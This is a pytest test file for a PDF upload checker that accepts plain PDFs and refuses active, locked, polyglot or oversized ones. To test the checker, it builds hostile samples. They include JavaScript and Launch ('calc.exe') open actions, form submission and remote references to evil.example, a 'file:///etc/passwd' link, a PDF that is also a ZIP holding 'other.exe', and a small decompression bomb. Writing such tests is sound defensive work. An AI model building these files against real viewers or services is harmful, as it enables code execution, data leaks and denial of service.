"""Plain PDFs pass; whatever runs, opens, hides or carries something else is refused, and so is what is not quite a PDF."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from hub.documents import MOST_BYTES, DocumentRefusedError, check_document


def a_pdf(change: Callable[[Pdf], object] = lambda pdf: None, *, pages: int = 1, **options: Any) -> bytes:
    """A document with `pages` empty pages, changed by `change`."""
    pdf = Pdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(200, 200))
    change(pdf)
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def refusal(content: bytes) -> str:
    with pytest.raises(DocumentRefusedError) as caught:
        check_document(content)
    assert str(caught.value).endswith(".")
    return caught.value.reason


def link(address: str) -> Callable[[Pdf], object]:
    def add(pdf: Pdf) -> None:
        action = Dictionary(S=Name.URI, URI=String(address))
        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
        pdf.pages[0].Annots = Array([pdf.make_indirect(note)])

    return add


def open_with(**action: Any) -> Callable[[Pdf], object]:
    return lambda pdf: pdf.Root.__setattr__("OpenAction", Dictionary(**action))


def attach(pdf: Pdf) -> None:
    pdf.attachments["other.exe"] = b"MZ"


def script_by_name(pdf: Pdf) -> None:
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script])))


def dynamic_form(pdf: Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))


def content_elsewhere(pdf: Pdf) -> None:
    pdf.Root.Kept = pdf.make_indirect(Stream(pdf, b"", F=String("//evil.example/share/x")))


def page_of_another_file(pdf: Pdf) -> None:
    elsewhere = Dictionary(F=String("//evil.example/share/x.pdf"), Page=0)
    form = Stream(pdf, b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 1, 1]), Ref=elsewhere)
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(A=pdf.make_indirect(form)))


def page_of_another_file_apart(pdf: Pdf) -> None:
    page_of_another_file(pdf)
    form = pdf.pages[0].Resources.XObject.A
    form.Ref = pdf.make_indirect(form.Ref)


def name_of_another_file(pdf: Pdf) -> None:
    pdf.Root.Kept = Dictionary(Type=Name.Filespec, F=String("//evil.example/share/x.pdf"))


def structure_that_refers(pdf: Pdf) -> None:
    note = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.FENote))
    word = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Span, Ref=Array([note])))
    pdf.Root.StructTreeRoot = Dictionary(Type=Name.StructTreeRoot, K=Array([note, word]))


def with_archive(behind: int) -> bytes:
    """A good PDF that is a good ZIP too: the archive lies in a stream, the rest of the PDF is the comment at its end."""
    room = b"x" * 2000
    pdf = a_pdf(lambda pdf: pdf.Root.__setattr__("Kept", pdf.make_stream(room)), compress_streams=False)
    start = pdf.index(room)
    packed = io.BytesIO()
    packed.write(pdf[:start])
    with zipfile.ZipFile(packed, "a") as archive:
        archive.writestr("other.exe", b"MZ" * 10)
    made = bytearray(packed.getvalue())
    made += pdf[len(made) :]
    made = made.replace(b"\n%%EOF", b"\n" * behind + b"%%EOF")
    end = made.index(b"PK\x05\x06") + 22
    made[end - 2 : end] = struct.pack("<H", len(made) - end)
    return bytes(made)


def action_of_an_event(pdf: Pdf) -> None:
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.Named, N=Name.NextPage))


@pytest.mark.parametrize(
    "content",
    [
        a_pdf(),
        a_pdf(pages=3),
        a_pdf(link("https://www.example/terms")),
        a_pdf(link("mailto:somebody@citizen.example")),
        a_pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
        a_pdf(lambda pdf: pdf.Root.__setattr__("OpenAction", Array([pdf.pages[0].obj, Name.Fit]))),
        a_pdf() + b"\r\n",
        a_pdf(structure_that_refers),
        a_pdf(link("tel:+3292240000")),
    ],
)
def test_a_plain_document_is_taken_as_it_is(content: bytes) -> None:
    check_document(content)


@pytest.mark.parametrize(
    "change",
    [
        open_with(S=Name.JavaScript, JS=String("app.alert(1)")),
        open_with(S=Name.Launch, F=String("calc.exe")),
        open_with(S=Name.SubmitForm, F=String("https://evil.example")),
        open_with(S=Name.GoToR, F=String("//evil.example/share")),
        open_with(S=Name.Thread, F=String("//evil.example/share/x.pdf"), D=0),
        script_by_name,
        content_elsewhere,
        page_of_another_file,
        page_of_another_file_apart,
        name_of_another_file,
        attach,
        dynamic_form,
        action_of_an_event,
        link("javascript:alert(1)"),
        link("file:///etc/passwd"),
        link("https://www.example/\njavascript:alert(1)"),
        link("\r\nhttps://www.example/"),
    ],
)
@pytest.mark.parametrize("packed", [False, True])
def test_what_runs_opens_or_carries_something_is_refused(change: Callable[[Pdf], object], packed: bool) -> None:
    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
    assert refusal(a_pdf(change, object_stream_mode=mode)) == "active"


def test_a_locked_document_is_refused() -> None:
    locked = a_pdf(encryption=pikepdf.Encryption(owner="x", user="y"))
    readable = a_pdf(encryption=pikepdf.Encryption(owner="x", user=""))
    assert (refusal(locked), refusal(readable)) == ("locked", "locked")


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"%PDF-1.7\n%%EOF",
        b"<html><script>alert(1)</script></html>",
        b"GIF89a/*" + a_pdf(),
        a_pdf() + b"PK\x03\x04 an archive behind it",
        a_pdf()[:-200],
        b"%PDF-1.7\n1 0 obj << /Pages 1 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF",
    ],
)
def test_what_is_not_wholly_a_pdf_is_refused(content: bytes) -> None:
    assert refusal(content) == "unreadable"


@pytest.mark.parametrize("behind", [1, 60_000])
def test_a_document_that_is_an_archive_too_is_refused(behind: int) -> None:
    both = with_archive(behind)
    assert zipfile.ZipFile(io.BytesIO(both)).namelist() == ["other.exe"]
    assert pikepdf.open(io.BytesIO(both)).pages
    assert refusal(both) == "unreadable"


@pytest.mark.parametrize("mark", [b"Rar!\x1a\x07\x01\x00", b"7z\xbc\xaf\x27\x1c\x00\x04"])
def test_a_document_with_the_mark_of_an_archive_is_refused(mark: bytes) -> None:
    both = a_pdf(lambda pdf: pdf.Root.__setattr__("Kept", pdf.make_stream(mark)), compress_streams=False)
    assert mark in both
    assert refusal(both) == "unreadable"


def test_a_document_that_is_too_long_is_refused() -> None:
    assert refusal(b"%PDF-1.7" + bytes(MOST_BYTES)) == "too large"
    assert refusal(a_pdf(pages=201)) == "too large"


def unfolding(spaces_mib: int) -> bytes:
    """A valid document of some kilobytes whose page lies in an object stream that unfolds to so many mebibytes of spaces."""
    packer, space = zlib.compressobj(1), b" " * (1 << 20)
    page = b"4 0 << /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    unfolded = packer.compress(page) + b"".join(packer.compress(space) for _ in range(spaces_mib)) + packer.flush()
    packed = zlib.compress(unfolded, 9)
    made, places = b"%PDF-1.7\n", []
    for number, body in enumerate(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            b"<< /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n" % len(packed)
            + packed
            + b"\nendstream",
        ],
        start=1,
    ):
        places.append(len(made))
        made += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    rows = [(0, 0, 65535), *((1, place, 0) for place in places), (2, 3, 0), (1, len(made), 0)]
    table = b"".join(kind.to_bytes(1) + where.to_bytes(4) + rest.to_bytes(2) for kind, where, rest in rows)
    start = len(made)
    made += b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
    return made + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % start


def test_a_document_that_unfolds_to_more_than_the_memory_is_refused_and_harms_nobody() -> None:
    check_document(unfolding(1))
    bomb = unfolding(900)
    assert len(bomb) < 100_000
    assert refusal(bomb) == "unreadable"
